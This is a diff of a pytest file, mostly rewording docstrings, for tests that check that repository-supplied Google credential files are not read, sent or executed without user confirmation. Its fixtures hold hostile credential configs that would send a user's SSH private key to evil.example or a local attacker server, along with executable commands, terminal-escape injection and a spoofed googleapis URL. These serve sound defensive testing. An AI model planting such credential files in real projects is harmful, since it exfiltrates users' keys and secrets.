@@ -1,4 +1,4 @@
-"""Files of credentials that a repository brings: what they point to is neither read, nor sent, nor started."""
+"""Test credential files from a repository: their targets are not read, sent or started."""
 
 import json
 import os
@@ -49,12 +49,12 @@ def _hear(event: str, arguments: tuple[Any, ...]) -> None:
         _events.append((event, os.fsdecode(arguments[0]) if isinstance(arguments[0], str | bytes) else ""))
 
 
-sys.addaudithook(_hear)  # there is no way to take one back: it hears only while a test listens
+sys.addaudithook(_hear)  # audit hooks cannot be removed: it is active only during a test
 
 
 @pytest.fixture
 def heard() -> Iterator[list[tuple[str, str]]]:
-    """Return the programs that were started and the files that were opened in this process since the test began."""
+    """Return the programs started and files opened in this process since the start of the test."""
     _events.clear()
     _listening.append(True)
     yield _events
@@ -63,14 +63,14 @@ def heard() -> Iterator[list[tuple[str, str]]]:
 
 @pytest.fixture
 def stranger(tmp_path: Path) -> Iterator[Stranger]:
-    """Return a stranger of the test's own."""
+    """Provide a hostile server."""
     with lurking(tmp_path / "stranger") as one:
         yield one
 
 
 @pytest.fixture
 def ssh_key(home: Path) -> Path:
-    """Return a file of the user's that nobody may see."""
+    """Provide a private file of the user."""
     path = home / ".ssh" / "id_ed25519"
     path.parent.mkdir()
     path.write_text(SSH_KEY)
@@ -81,7 +81,7 @@ def ssh_key(home: Path) -> Path:
 def shell(
     environment: Mapping[str, str], google: Google, profile: Callable[[str, str], Path]
 ) -> dict[str, str | None]:
-    """Return a shell whose profile leads to a Google on loopback, and that has secrets of AWS."""
+    """Provide a shell with AWS secrets, and a profile that selects a Google server on loopback."""
     profile("p", f'[vertex]\nproject = "acme-prod"\nregion = "global"\n{google.table()}')
     session = {"CLAUDE_CODE_USE_VERTEX": "1", "ANTHROPIC_VERTEX_PROJECT_ID": "acme-prod", "CLOUD_ML_REGION": "global"}
     aws = {"AWS_ACCESS_KEY_ID": "AKIA", "AWS_SECRET_ACCESS_KEY": AWS_SECRET, "AWS_REGION": "us-east-1"}
@@ -101,18 +101,18 @@ def external(token_url: str, source: Content, **more: Any) -> Content:
 
 
 def person(**more: Any) -> Content:
-    """Return the credentials of a person."""
+    """Return a user's credentials."""
     return {"type": "authorized_user", "client_id": "i", "client_secret": "hush", "refresh_token": REFRESH, **more}
 
 
 def robot(token_uri: str, **more: Any) -> Content:
-    """Return the key of a service account."""
+    """Return a service account key."""
     key = {"private_key_id": "1", "private_key": private_key(), "client_email": "r@acme-prod.iam.gserviceaccount.com"}
     return {"type": "service_account", "client_id": "1", "token_uri": token_uri, **key, **more}
 
 
 def impersonating(source: Content, url: str, **more: Any) -> Content:
-    """Return an account that is impersonated from another."""
+    """Return an account impersonated from another."""
     return {"type": "impersonated_service_account", "service_account_impersonation_url": f"{url}/{ACCOUNT}",
             "source_credentials": source, "delegates": [], **more}  # fmt: skip
 
@@ -128,7 +128,7 @@ WORKFORCE: Content = {
     "refresh_token": REFRESH,
 }
 
-# What each file has sent to the stranger at `u` once the user says yes, where `k` is a file of the user's own.
+# The data that each file sends to the server at `u` after confirmation; `k` is a file of the user.
 HOSTILE: dict[str, tuple[Callable[[str, str], Content], set[str]]] = {
     "file": (lambda u, k: external(f"{u}/token", {"file": k}), {SSH_KEY}),
     "file-json": (
@@ -160,7 +160,7 @@ HOSTILE: dict[str, tuple[Callable[[str, str], Content], set[str]]] = {
     "impersonated-universe": (lambda u, _: impersonating(person(universe_domain="evil.example"), u), set()),
 }  # fmt: skip
 
-# What is not used at all, yes or no.
+# Files that are never used, confirmed or not.
 REFUSED: dict[str, Callable[[str, str], Content]] = {
     "program": lambda u, _: external(f"{u}/token", {"executable": {"command": "touch ran"}}),
     "program-output": lambda u, k: external(
@@ -193,7 +193,7 @@ REFUSED: dict[str, Callable[[str, str], Content]] = {
 
 
 def put(work: Path, content: Content) -> dict[str, str]:
-    """Write a file of credentials into the repository, and return the variables that it needs."""
+    """Write a credential file into the repository, and return the variables for it."""
     path = work / "creds.json"
     path.write_text(json.dumps(content))
     return {"GOOGLE_APPLICATION_CREDENTIALS": str(path), "GOOGLE_EXTERNAL_ACCOUNT_ALLOW_EXECUTABLES": "1"}
@@ -204,7 +204,7 @@ def test_nothing_is_read_or_sent_without_a_yes(  # noqa: PLR0917 - a case and fi
     kind: str, shell: dict[str, str | None], stranger: Stranger, google: Google, work: Path, ssh_key: Path,
     heard: list[tuple[str, str]],
 ) -> None:  # fmt: skip
-    """Without a yes a file has nothing read, sent or started; after one what was named is sent, and nothing else."""
+    """Without confirmation nothing is read, sent or started; after it only the named data is sent."""
     make, secrets = HOSTILE[kind]
     there = {**put(work, make(stranger.server.url, str(ssh_key))), "HTTPS_PROXY": stranger.tunnel.url}
     ran = called(*PROBE, env={**shell, **there})
@@ -224,7 +224,7 @@ def test_what_is_never_used(  # noqa: PLR0917 - a case and fixtures
     kind: str, shell: dict[str, str | None], stranger: Stranger, work: Path, ssh_key: Path,
     heard: list[tuple[str, str]],
 ) -> None:  # fmt: skip
-    """Programs, client certificates and malformed sources are refused before google-auth sees the file, yes or no."""
+    """Programs, client certificates and malformed sources are rejected before google-auth reads the file."""
     there = put(work, REFUSED[kind](stranger.server.url, str(ssh_key)))
     ran = called(*PROBE, "--yes", env={**shell, **there})
 
@@ -236,7 +236,7 @@ def test_what_is_never_used(  # noqa: PLR0917 - a case and fixtures
 
 
 def test_the_hook_hears(heard: list[tuple[str, str]], ssh_key: Path) -> None:
-    """What listens for programs and files hears them, so that the silence of the other tests says something."""
+    """The audit hook records programs and files; the other tests depend on it."""
     subprocess.run(["true"], check=True)
     ssh_key.read_text()
 
@@ -245,7 +245,7 @@ def test_the_hook_hears(heard: list[tuple[str, str]], ssh_key: Path) -> None:
 
 
 def test_a_command_is_shown_escaped(shell: dict[str, str | None], work: Path) -> None:
-    """The program that a file names is shown without anything that steers a terminal, and cut."""
+    """The program named in a file is shown escaped and truncated."""
     command = "touch \x1b[2J\u202eran" + "x" * 1000
     there = put(work, external(GOOGLE_STS, {"executable": {"command": command}}))
     ran = called(*PROBE, env={**shell, **there})
@@ -257,7 +257,7 @@ def test_a_command_is_shown_escaped(shell: dict[str, str | None], work: Path) ->
 
 
 def test_both_ends_are_shown(shell: dict[str, str | None], work: Path, ssh_key: Path) -> None:
-    """The question names what is read and where it goes, whatever the address looks like."""
+    """The question shows both the source and the destination, for any address."""
     there = put(work, external("https://sts.googleapis.com@evil.example/token?x=1", {"file": str(ssh_key)}))
     ran = called(*PROBE, env={**shell, **there})
     line = next(line for line in ran.stderr.splitlines() if "contents" in line)
@@ -269,14 +269,14 @@ def test_both_ends_are_shown(shell: dict[str, str | None], work: Path, ssh_key: 
 
 
 def test_a_relative_file_is_shown_whole(shell: dict[str, str | None], work: Path) -> None:
-    """A path is shown as the file that it leads to from here."""
+    """A relative path is shown resolved."""
     there = put(work, external("https://evil.example/token", {"file": "../.ssh/../.ssh/id_ed25519"}))
 
     assert "the contents of ~/.ssh/id_ed25519 to" in called(*PROBE, env={**shell, **there}).stderr
 
 
 def test_a_long_path_cannot_fill_the_screen(shell: dict[str, str | None], work: Path) -> None:
-    """A path is cut, with how long it is, so that blanks in it cannot push the address out of sight."""
+    """A long path is truncated with its length; blanks in it cannot push the address off the screen."""
     there = put(work, external("https://evil.example/token", {"file": "/" + " " * 3000 + "x"}))
     line = next(line for line in called(*PROBE, env={**shell, **there}).stderr.splitlines() if "contents" in line)
 
@@ -287,7 +287,7 @@ def test_a_long_path_cannot_fill_the_screen(shell: dict[str, str | None], work: 
 def test_a_source_for_google_is_asked_about_too(
     shell: dict[str, str | None], google: Google, work: Path, ssh_key: Path
 ) -> None:
-    """A file that is not the user's own choice sends nothing of theirs even to Google without a yes."""
+    """A file that the user did not select sends nothing even to Google without confirmation."""
     ran = called(*PROBE, env={**shell, **put(work, external(GOOGLE_STS, {"file": str(ssh_key)}))})
 
     assert (3, []) == (ran.code, google.asked)
@@ -297,7 +297,7 @@ def test_a_source_for_google_is_asked_about_too(
 def test_another_home_is_not_ones_own(
     shell: dict[str, str | None], google: Google, stranger: Stranger, work: Path, ssh_key: Path
 ) -> None:
-    """Settings of Claude Code in a repository that name a home with credentials in it have nothing read unasked."""
+    """Claude Code settings in a repository that name a home with credentials cause no read without confirmation."""
     usual = work / ".config" / "gcloud" / "application_default_credentials.json"
     usual.parent.mkdir(parents=True)
     usual.write_text(json.dumps(external(GOOGLE_STS, {"file": str(ssh_key)})))
@@ -316,7 +316,7 @@ def test_ones_own_file_is_not_asked_about(  # noqa: PLR0917 - fixtures
     profile: Callable[[str, str], Path],
     ssh_key: Path,
 ) -> None:
-    """A file that the user's own profile names, or that gcloud wrote, is used with Google's servers without a yes."""
+    """A file named in the user's own profile, or written by gcloud, is used with Google without confirmation."""
     url = stranger.tunnel.url  # stands in for Google here, with an authority that the user's own profile names
     content = external(GOOGLE_STS, {"file": str(ssh_key)})
     own = home / "own.json"
@@ -335,7 +335,7 @@ def test_ones_own_file_is_not_asked_about(  # noqa: PLR0917 - fixtures
 def test_a_file_that_changes_after_the_question(
     shell: dict[str, str | None], stranger: Stranger, work: Path, ssh_key: Path, home: Path
 ) -> None:
-    """What the user agreed to is what was shown: a file that changes meanwhile has nothing read and sent."""
+    """Confirmation applies to the displayed content: a file changed meanwhile is not used."""
     harmless = home / "token"
     harmless.write_text("harmless")
     url = stranger.server.url
@@ -351,7 +351,7 @@ def test_a_file_that_changes_after_the_question(
 
 @pytest.mark.parametrize("made", [os.mkfifo, lambda path: path.symlink_to("/dev/zero")])
 def test_no_file_that_never_ends(made: Callable[[Path], None], shell: dict[str, str | None], work: Path) -> None:
-    """A FIFO or a device in the place of credentials, or of what they point to, is not read."""
+    """A FIFO or a device as a credential file, or as the target of one, is not read."""
     made(work / "endless")
     first = called(*PROBE, "--yes", env={**shell, "GOOGLE_APPLICATION_CREDENTIALS": str(work / "endless")})
     there = put(work, external("https://evil.example/token", {"file": str(work / "endless")}))
@@ -364,7 +364,7 @@ def test_no_file_that_never_ends(made: Callable[[Path], None], shell: dict[str, 
 def test_the_question_at_a_terminal(  # noqa: PLR0917 - cases and fixtures
     answer: str, code: int, sent: bool, shell: dict[str, str | None], stranger: Stranger, work: Path, ssh_key: Path
 ) -> None:  # fmt: skip
-    """At a terminal the question waits for an answer, and only a yes sends."""
+    """At a terminal the question waits for an answer, and only "yes" sends."""
     there = put(work, external(f"{stranger.server.url}/token", {"file": str(ssh_key)}))
     named = {name: value for name, value in shell.items() if value is not None}
     env = {**os.environ, **named, **there, "VXENV_TODAY": "2026-11-22", "TERM": "dumb", "COLUMNS": "300"}
